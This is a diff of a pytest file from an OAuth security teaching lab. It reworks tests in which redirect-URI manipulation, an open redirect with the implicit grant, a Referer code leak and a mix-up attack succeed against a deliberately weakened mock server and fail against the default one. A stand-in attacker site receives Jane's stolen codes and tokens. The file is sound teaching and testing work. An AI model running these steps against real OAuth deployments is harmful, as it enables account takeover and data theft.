@@ -1,8 +1,9 @@
 """Notebook 12's attacks, each run for real: it succeeds against the server with the teaching switch
 that weakens its rule, and fails against the default server with the error the standard gives.
 
-The attacker's site and authorization server are oauth_lab.attacker's; the victim's app is the
-lab's own redirect URI with its careless pages on; the victim's browser is the scripted UserAgent.
+The attacker's site and authorization server are oauth_lab.attacker's; the victims' apps are the
+widget (the lab's own redirect URI) and Fernhollow Shop (oauth_lab.careless_app); the victim's
+browser is the scripted UserAgent.
 """
 from __future__ import annotations
 
@@ -17,6 +18,7 @@ from requests_oauthlib import OAuth2Session
 import mock_server
 from flows import WIDGET, assert_oauth_error
 from oauth_lab.attacker import AttackerAuthorizationServer, AttackerSite
+from oauth_lab.careless_app import CarelessApp
 from oauth_lab.flows import authorization_code_flow
 from oauth_lab.lab import setup
 from oauth_lab.user_agent import UserAgent
@@ -49,10 +51,21 @@ def weak(lab):
 @pytest.fixture(scope="module")
 def site(lab):
     site = AttackerSite(lab.app.port + 4)
-    lab.app.careless_pages(banner=site.page("banner.gif"))
     yield site
-    lab.app.configure(banner=None)  # the app is careful again for the other test modules
     site.stop()
+
+
+@pytest.fixture(scope="module")
+def shop(lab, site):
+    shop = CarelessApp(lab.app.port + 6, banner=site.page("banner.gif"))
+    yield shop
+    shop.stop()
+
+
+def register_shop(server, shop, redirect_uris=None, **metadata) -> str:
+    return requests.post(server.endpoint("registration"), json={
+        "redirect_uris": redirect_uris or [shop.redirect_uri], "token_endpoint_auth_method": "none",
+        "scope": "chats--access:ro customers:ro", **metadata}).json()["client_id"]
 
 
 def query(url: str) -> dict:
@@ -117,30 +130,32 @@ def test_csrf_is_stopped_by_the_default_servers_pkce_alone(lab, site):
 
 # --- 2. redirect URI manipulation --------------------------------------------------------------
 
-def candidates(lab, site) -> dict:
-    return {"attacker": site.page("catch"), "relay": f"{lab.redirect_uri}/relay/{site.page('catch')}",
-            "dot-dot": f"{lab.redirect_uri}/../help"}
+def candidates(shop, site) -> dict:
+    return {"attacker": site.page("catch"), "relay": shop.page("relay", site.page("catch")),
+            "dot-dot": f"{shop.redirect_uri}/../help"}
 
 
-def probe(server, redirect_uri) -> int:
-    url, _ = OAuth2Session(WIDGET, redirect_uri=redirect_uri, pkce="S256").authorization_url(
+def probe(server, client_id, redirect_uri) -> int:
+    url, _ = OAuth2Session(client_id, redirect_uri=redirect_uri, pkce="S256").authorization_url(
         server.metadata["authorization_endpoint"])
     return requests.get(url, allow_redirects=False).status_code
 
 
 @pytest.mark.parametrize("matching, accepted", [
     ("exact", set()), ("prefix", {"relay"}), ("lax", {"attacker", "relay", "dot-dot"})])
-def test_which_redirect_uris_each_matching_accepts(lab, weak, site, matching, accepted):
+def test_which_redirect_uris_each_matching_accepts(lab, weak, site, shop, matching, accepted):
     server = lab if matching == "exact" else weak(redirect_matching=matching)
-    statuses = {name: probe(server, uri) for name, uri in candidates(lab, site).items()}
+    client_id = register_shop(server, shop)
+    statuses = {name: probe(server, client_id, uri) for name, uri in candidates(shop, site).items()}
     assert {name for name, status in statuses.items() if status == 200} == accepted
     assert {status for name, status in statuses.items() if name not in accepted} <= {400}
 
 
 @pytest.mark.parametrize("matching, candidate", [("prefix", "relay"), ("lax", "attacker")])
-def test_a_manipulated_redirect_uri_delivers_janes_code_to_the_attacker(lab, weak, site, matching, candidate):
+def test_a_manipulated_redirect_uri_delivers_janes_code_to_the_attacker(weak, site, shop, matching, candidate):
     server = weak(redirect_matching=matching)
-    attackers = OAuth2Session(WIDGET, redirect_uri=candidates(lab, site)[candidate], scope=SCOPE, pkce="S256")
+    attackers = OAuth2Session(register_shop(server, shop), redirect_uri=candidates(shop, site)[candidate],
+                              scope=SCOPE, pkce="S256")
     url, _ = attackers.authorization_url(server.metadata["authorization_endpoint"])
     browser = jane_allows(server, url)
     assert browser.history[-1].startswith(site.page("catch") + "?code=")
@@ -148,9 +163,9 @@ def test_a_manipulated_redirect_uri_delivers_janes_code_to_the_attacker(lab, wea
     assert chats(server, token["access_token"]).json()["found_chats"] > 0
 
 
-def test_the_default_server_shows_an_error_page_for_the_relay(lab, site):
-    url, _ = OAuth2Session(WIDGET, redirect_uri=candidates(lab, site)["relay"], pkce="S256").authorization_url(
-        lab.metadata["authorization_endpoint"])
+def test_the_default_server_shows_an_error_page_for_the_relay(lab, site, shop):
+    url, _ = OAuth2Session(register_shop(lab, shop), redirect_uri=candidates(shop, site)["relay"],
+                           pkce="S256").authorization_url(lab.metadata["authorization_endpoint"])
     page = UserAgent(*JANE, lab.reach()).session.get(url, allow_redirects=False)
     assert page.status_code == 400 and "Location" not in page.headers
     assert "is not supported by client" in page.text
@@ -159,38 +174,37 @@ def test_the_default_server_shows_an_error_page_for_the_relay(lab, site):
 # --- 3. an open redirect on the app, with the implicit grant -----------------------------------
 
 @pytest.fixture(scope="module")
-def implicit(weak, lab):
+def implicit(weak, shop):
     server = weak(allow_implicit=True, redirect_matching="prefix")
-    server.widget_2019 = requests.post(server.endpoint("registration"), json={
-        "redirect_uris": [lab.redirect_uri], "token_endpoint_auth_method": "none",
-        "grant_types": ["implicit"], "response_types": ["token"], "scope": "chats--access:ro"}).json()["client_id"]
+    server.shop = register_shop(server, shop, grant_types=["implicit", "authorization_code"],
+                                response_types=["token", "code"])
     return server
 
 
-def onward(lab, site) -> str:
-    return f"{lab.redirect_uri}/continue/{site.page('steal')}"
+def onward(shop, site) -> str:
+    return shop.page("continue", site.page("steal"))
 
 
-def test_the_token_follows_the_apps_open_redirect_in_the_fragment(lab, site, implicit):
-    attackers = OAuth2Session(client=MobileApplicationClient(implicit.widget_2019), redirect_uri=onward(lab, site),
+def test_the_token_follows_the_shops_open_redirect_in_the_fragment(site, shop, implicit):
+    attackers = OAuth2Session(client=MobileApplicationClient(implicit.shop), redirect_uri=onward(shop, site),
                               scope=SCOPE)
     browser = jane_allows(implicit, attackers.authorization_url(implicit.metadata["authorization_endpoint"])[0])
     landed, _, _ = browser.history[-1].partition("#")
     assert landed == site.page("steal")
-    assert urlsplit(lab.app.received()[-1]).fragment == ""  # no server ever saw the token
+    assert urlsplit(shop.received()[-1]).fragment == ""  # no server ever saw the token
     assert chats(implicit, fragment(browser.history[-1])["access_token"]).status_code == 200
 
 
-def test_the_code_does_not_follow_the_open_redirect(lab, site, implicit):
-    attackers = OAuth2Session(WIDGET, redirect_uri=onward(lab, site), scope=SCOPE, pkce="S256")
+def test_the_code_does_not_follow_the_open_redirect(site, shop, implicit):
+    attackers = OAuth2Session(implicit.shop, redirect_uri=onward(shop, site), scope=SCOPE, pkce="S256")
     browser = jane_allows(implicit, attackers.authorization_url(implicit.metadata["authorization_endpoint"])[0])
     assert browser.history[-1] == site.page("steal")
-    assert "code" in query(lab.app.received()[-1])  # it stayed in the request to the app
+    assert "code" in query(shop.received()[-1])  # it stayed in the request to the shop
 
 
-def test_the_default_server_offers_no_implicit_grant_and_refuses_the_redirect(lab, site):
+def test_the_default_server_offers_no_implicit_grant_and_refuses_the_redirect(lab, site, shop):
     assert lab.metadata["response_types_supported"] == ["code"]
-    url, _ = OAuth2Session(client=MobileApplicationClient(WIDGET), redirect_uri=onward(lab, site),
+    url, _ = OAuth2Session(client=MobileApplicationClient(register_shop(lab, shop)), redirect_uri=onward(shop, site),
                            scope=SCOPE).authorization_url(lab.metadata["authorization_endpoint"])
     page = requests.get(url, allow_redirects=False)
     assert page.status_code == 400 and "Location" not in page.headers
@@ -199,48 +213,43 @@ def test_the_default_server_offers_no_implicit_grant_and_refuses_the_redirect(la
 
 # --- 4. leaks: a Referer with the code (then redeemed: code interception), a history with the token
 
-SHOP = {"client_name": "Fernhollow Shop", "token_endpoint_auth_method": "none", "scope": "customers:ro"}
-
-
-def leaked_shop_code(server, lab, site, pkce) -> tuple[str, str]:
+def leaked_shop_code(server, shop, site, pkce) -> tuple[str, str]:
     """Jane signs in to the shop, whose welcome page shows the attacker's banner: the shop's
     client_id, and the Referer the banner's request carried."""
-    welcome = f"{lab.redirect_uri}/welcome"
-    shop = requests.post(server.endpoint("registration"), json=dict(SHOP, redirect_uris=[welcome])).json()["client_id"]
-    url, _ = OAuth2Session(shop, redirect_uri=welcome, scope=["customers:ro"], pkce=pkce).authorization_url(
-        server.metadata["authorization_endpoint"])
+    client_id = register_shop(server, shop, [shop.page("welcome")])
+    url, _ = OAuth2Session(client_id, redirect_uri=shop.page("welcome"), scope=["customers:ro"],
+                           pkce=pkce).authorization_url(server.metadata["authorization_endpoint"])
     jane_allows(server, url)
-    return shop, site.referers()[-1]
+    return client_id, site.referers()[-1]
 
 
-def test_a_code_leaked_through_referer_is_redeemed_without_pkce(lab, weak, site):
+def test_a_code_leaked_through_referer_is_redeemed_without_pkce(weak, site, shop):
     no_pkce = weak(require_pkce=False)
-    shop, leaked = leaked_shop_code(no_pkce, lab, site, pkce=None)
+    client_id, leaked = leaked_shop_code(no_pkce, shop, site, pkce=None)
     assert urlsplit(leaked).path == "/callback/welcome" and {"code", "state"} <= set(query(leaked))
-    thief = OAuth2Session(shop, redirect_uri=f"{lab.redirect_uri}/welcome")
+    thief = OAuth2Session(client_id, redirect_uri=shop.page("welcome"))
     thief.fetch_token(no_pkce.endpoint("token"), authorization_response=leaked, include_client_id=True)
     assert thief.post(no_pkce.api("list_customers"), json={}).json()["total_customers"] > 0
 
 
-def test_a_code_leaked_through_referer_is_useless_with_pkce(lab, site):
-    shop, leaked = leaked_shop_code(lab, lab, site, pkce="S256")
+def test_a_code_leaked_through_referer_is_useless_with_pkce(lab, site, shop):
+    client_id, leaked = leaked_shop_code(lab, shop, site, pkce="S256")
     assert "code" in query(leaked)  # the page leaks it just the same
-    thief = OAuth2Session(shop, redirect_uri=f"{lab.redirect_uri}/welcome")
+    thief = OAuth2Session(client_id, redirect_uri=shop.page("welcome"))
     with pytest.raises(InvalidGrantError, match="Missing 'code_verifier'"):
         thief.fetch_token(lab.endpoint("token"), authorization_response=leaked, include_client_id=True)
 
 
-def test_the_apps_own_callback_page_leaks_nothing_through_referer(lab):
+def test_the_widgets_callback_page_leaks_nothing_through_referer(lab):
     page = requests.get(f"{lab.redirect_uri}?code=ac_1&state=s")
     assert page.headers["Referrer-Policy"] == "no-referrer" and "<img" not in page.text
 
 
-def test_an_implicit_token_is_not_in_referer_but_stays_in_history(lab, site, implicit):
-    welcome = f"{lab.redirect_uri}/welcome"
-    url, _ = OAuth2Session(client=MobileApplicationClient(implicit.widget_2019), redirect_uri=welcome,
+def test_an_implicit_token_is_not_in_referer_but_stays_in_history(site, shop, implicit):
+    url, _ = OAuth2Session(client=MobileApplicationClient(implicit.shop), redirect_uri=shop.page("welcome"),
                            scope=SCOPE).authorization_url(implicit.metadata["authorization_endpoint"])
     browser = jane_allows(implicit, url)
-    assert site.referers()[-1] == welcome  # RFC 9110 §10.1.3: no fragment in Referer
+    assert site.referers()[-1] == shop.page("welcome")  # RFC 9110 §10.1.3: no fragment in Referer
     later = next(page for page in browser.history if "access_token=" in page)
     assert chats(implicit, fragment(later)["access_token"]).status_code == 200
 
@@ -308,7 +317,7 @@ def test_a_scope_the_user_or_the_app_may_not_have_is_refused(lab, app, scope, us
 @pytest.fixture
 def mixed_up(lab):
     """The app's request went to the attacker's server, which bounced Jane to the default one."""
-    partner = AttackerAuthorizationServer(lab.app.port + 5, lab, {"widget-at-partner": WIDGET})
+    partner = AttackerAuthorizationServer(lab.port + 8, lab, {"widget-at-partner": WIDGET})
     metadata = partner.metadata()
     app = OAuth2Session("widget-at-partner", redirect_uri=lab.redirect_uri, scope=SCOPE, pkce="S256")
     url, _ = app.authorization_url(metadata["authorization_endpoint"])
